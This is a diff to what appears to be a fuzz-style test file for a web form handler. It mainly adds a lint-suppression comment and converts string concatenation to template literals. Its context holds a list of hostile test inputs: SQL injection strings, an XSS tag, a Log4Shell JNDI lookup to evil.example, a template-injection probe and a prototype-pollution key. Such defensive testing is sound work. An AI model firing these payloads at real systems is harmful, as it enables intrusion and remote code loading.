@@ -52,6 +52,7 @@ const NASTY = [
   "' or '1'='1",
   '"; drop table subscribers; --',
   '<script>alert(1)</script>',
+  // biome-ignore lint/suspicious/noTemplateCurlyInString: a Log4Shell lookup, meant as literal text
   '${jndi:ldap://evil.example/a}',
   '{{7*7}}',
   '__proto__',
@@ -233,7 +234,7 @@ const malformedJson = fc.oneof(
     Buffer.from('{"email":"a@example.com","consent":true,"name":"\xc3"}', 'latin1'),
     Buffer.from('{"name":"\u0000"}'),
     Buffer.from('['.repeat(20_000) + ']'.repeat(20_000)),
-    Buffer.from('{"a":'.repeat(5_000) + '1' + '}'.repeat(5_000)),
+    Buffer.from(`${'{"a":'.repeat(5_000)}1${'}'.repeat(5_000)}`),
   ),
 );
 
@@ -264,7 +265,7 @@ const formText = (base: [string, string][]) =>
           'consent=on&consent=off',
           'email=a%40example.com&email=b%40example.com',
           'intent=erase&intent=save',
-          'name=' + 'x'.repeat(300),
+          `name=${'x'.repeat(300)}`,
         ),
       ),
       { maxLength: 8 },
